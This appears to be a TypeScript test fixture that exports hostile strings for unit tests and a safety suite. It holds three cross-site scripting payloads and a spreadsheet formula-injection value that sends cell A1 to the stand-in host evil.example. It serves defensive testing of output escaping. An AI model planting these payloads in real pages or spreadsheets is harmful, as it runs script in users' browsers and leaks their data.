// Strings that would run code if any part of the workbench turned data into markup, and one that a spreadsheet
// would run as a formula. Shared by the unit tests here and the e2e safety suite.
export const HOSTILE = {
  script: '<script>window.__pwned=1</script>',
  img: '<img src=x onerror="window.__pwned=2">',
  attr: '"><svg onload="window.__pwned=3">',
  formula: '=HYPERLINK("evil.example?leak="&A1,"点此")',
} as const;
